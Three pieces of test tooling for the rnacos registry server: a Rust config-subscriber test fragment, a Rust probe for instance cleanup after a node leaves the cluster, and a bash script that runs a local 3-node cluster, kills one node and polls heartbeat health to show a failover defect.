    fn probe_subscriber_is_still_registered_after_the_key_was_removed() {
        let mut actor = ConfigActor::new();
        let key = ConfigKey::new("app.yaml", "DEFAULT_GROUP", "");
        actor.set_config(param(&key, "v1", 1)).unwrap();
        let client = Arc::new("1_100".to_owned());
        actor.subscriber.add_subscribe(client.clone(), vec![ListenerItem::new(key.clone(), Arc::new(get_md5("v1")))]);
        assert_eq!(actor.subscriber.get_listener_key_size(), 1);
        actor.del_config(key.clone()).unwrap();
        // the re-publish that follows calls subscriber.notify(key), which looks the key up in the subscriber's listener map
        assert_eq!(actor.subscriber.get_listener_key_size(), 1,
            "the subscription of client 1_100 was dropped by the remove: the publish that follows reaches nobody");
    }
}
