// Throw-away reproduction probe (append to src/naming/cluster/node_manage.rs of a scratch copy; `cargo test --lib probe_node_removed`).
// FAILS before the fix commit "a node removed from the membership left its clients' instances behind", passes after. Not part of any registered check.

#[cfg(test)]
mod probe_membership_removal {
    use super::*;
    use crate::common::AppSysConfig;
    use crate::naming::core::{NamingActor, NamingCmd, NamingResult};
    use crate::naming::model::Instance;
    use crate::raft::network::factory::{RaftClusterRequestSender, RaftConnectionFactory};

    // node 2 leaves the cluster membership (scale-down). Its gRPC clients are gone with it: their ephemeral instances must disappear here.
    #[actix::test]
    async fn probe_node_removed_from_membership_takes_its_clients_along() {
        let naming = NamingActor::new().start();
        let mut m = InnerNodeManage::new(1);
        m.naming_actor = Some(naming.clone());
        let conn = RaftConnectionFactory::new(60).start();
        m.cluster_sender = Some(Arc::new(RaftClusterRequestSender::new(conn, Arc::new(AppSysConfig::init_from_env()))));
        let manage = m.start();
        let a1 = Arc::new("127.0.0.1:19001".to_owned());
        let a2 = Arc::new("127.0.0.1:19002".to_owned());
        manage.send(NodeManageRequest::UpdateNodes(vec![(1, a1.clone()), (2, a2)])).await.unwrap().unwrap();
        let client_id = Arc::new("2_7".to_owned());
        manage.send(NodeManageRequest::AddClientId(2, client_id.clone())).await.unwrap().unwrap();
        let mut instance = Instance::new("10.0.0.9".to_owned(), 8080);
        instance.namespace_id = Arc::new("public".to_owned());
        instance.group_name = Arc::new("DEFAULT_GROUP".to_owned());
        instance.service_name = Arc::new("svc".to_owned());
        instance.from_cluster = 2;
        instance.from_grpc = true;
        instance.client_id = client_id;
        let key = instance.get_service_key();
        naming.send(NamingCmd::UpdateFromSync(instance, None)).await.unwrap().unwrap();
        // membership change: node 2 is removed
        manage.send(NodeManageRequest::UpdateNodes(vec![(1, a1)])).await.unwrap().unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        match naming.send(NamingCmd::QueryAllInstanceList(key)).await.unwrap().unwrap() {
            NamingResult::InstanceList(list) => assert!(list.is_empty(), "the instance of a client of the removed node is still listed ({})", list.len()),
            _ => panic!("unexpected result"),
        }
    }
}
