#!/usr/bin/env bash
# d1_demo.sh - C13 defect 1 end-to-end (supporting evidence for d1_test.diff):
# ephemeral HTTP instances that heart-beat every 5s WITHOUT A PAUSE are reported unhealthy (or
# disappear) on the surviving nodes the moment the node that was responsible for them is declared
# dead and another node takes them over.
#
# usage: hunt/d1_demo.sh      (run from the worktree root, binary = target/debug/rnacos, default time-outs 15+3s/30+3s)
# 3-node cluster on ports 4384i (http) / 4394i (grpc+raft) / 4385i (console).
set -u
ROOT=$(cd "$(dirname "$0")/.." && pwd)
BIN=${BIN:-$ROOT/target/debug/rnacos}
WORK=$(mktemp -d /tmp/hc13_d1.XXXXXX)
NSVC=12
KILL_NODE=3

start_node() {
  local i=$1
  local join=""
  [ "$i" != 1 ] && join="RNACOS_RAFT_JOIN_ADDR=127.0.0.1:43941"
  env RUST_LOG=warn RNACOS_HTTP_PORT=4384$i RNACOS_GRPC_PORT=4394$i RNACOS_HTTP_CONSOLE_PORT=4385$i \
      RNACOS_RAFT_NODE_ID=$i RNACOS_RAFT_NODE_ADDR=127.0.0.1:4394$i $join \
      RNACOS_DATA_DIR=$WORK/d$i "$BIN" >>"$WORK/n$i.log" 2>&1 &
  eval "PID$i=$!"
}
BEATPID=""
cleanup() { kill $BEATPID $PID1 $PID2 $PID3 2>/dev/null; wait 2>/dev/null; rm -rf "$WORK"; }
trap cleanup EXIT

members() { curl -s "127.0.0.1:4384$1/nacos/v1/raft/metrics" | jq -c '[.current_leader, (.membership_config.members|length)]' 2>/dev/null; }
state() { # node svc -> "H" healthy, "U" listed unhealthy, "-" not listed
  curl -s "127.0.0.1:4384$1/nacos/v1/ns/instance/list?serviceName=$2&healthyOnly=false" \
    | jq -r '[.hosts[]|select(.ip!="127.0.0.1")] | if length==0 then "-" elif .[0].healthy then "H" else "U" end' 2>/dev/null
}
row() { local n=$1 r=""; for s in $(seq 1 $NSVC); do r="$r$(state $n d1svc$s)"; done; echo "$r"; }

echo "== start 3 nodes with the default time-outs (unhealthy after 18s, removed after 33s without heartbeat)"
start_node 1; sleep 3; start_node 2; sleep 1; start_node 3
for t in $(seq 1 40); do
  m1=$(members 1); m2=$(members 2); m3=$(members 3)
  [ "$m1" = "$m2" ] && [ "$m2" = "$m3" ] && [[ "$m1" == *",3]" ]] && break
  sleep 1
done
echo "raft metrics [leader,members] per node: $m1 $m2 $m3"
sleep 15

echo "== $NSVC services with one ephemeral HTTP instance (+ one persistent instance) each; a client heart-beats ALL of them through node 1 every 5s, for the whole run"
for s in $(seq 1 $NSVC); do
  curl -s -X POST "127.0.0.1:43841/nacos/v1/ns/instance?serviceName=d1svc$s&ip=10.0.0.$s&port=8080&ephemeral=true" >/dev/null
  # a second, persistent and reachable instance per service keeps the service away from the "protect threshold"
  # (with 0 healthy instances of N the list API reports every instance as healthy, which would hide the state)
  curl -s -X POST "127.0.0.1:43841/nacos/v1/ns/instance?serviceName=d1svc$s&ip=127.0.0.1&port=43841&ephemeral=false" >/dev/null
done
( while true; do
    sleep 5
    for s in $(seq 1 $NSVC); do
      curl -s -o /dev/null -X PUT "127.0.0.1:43841/nacos/v1/ns/instance/beat?serviceName=d1svc$s&ip=10.0.0.$s&port=8080"
    done
  done ) &
BEATPID=$!
sleep 32
echo "-- after 32s of heart-beating (one letter per service: H healthy, U unhealthy, - not listed)"
echo "node1 $(row 1)"; echo "node2 $(row 2)"; echo "node3 $(row 3)"

echo "== kill node $KILL_NODE (it stays down); the heartbeats through node 1 go on every 5s"
T0=$(date +%s.%N)
eval "kill -9 \$PID$KILL_NODE" 2>/dev/null
bad=0
for i in $(seq 1 45); do
  r1=$(row 1); r2=$(row 2)
  el=$(printf '%.1f' "$(echo "$(date +%s.%N) - $T0" | bc)")
  mark=""
  if [[ "$r1$r2" == *U* || "$r1$r2" == *-* ]]; then mark="   <-- heart-beating instance unhealthy / missing"; bad=$((bad+1)); fi
  echo "t=+${el}s node1 $r1  node2 $r2$mark"
  sleep 1
done
if [ $bad -gt 0 ]; then
  echo "RESULT: DEFECT - in $bad of 45 polls an instance that heart-beats every 5s was unhealthy or missing on a surviving node"
  exit 1
else
  echo "RESULT: ok - every heart-beating instance stayed healthy on the surviving nodes"
fi
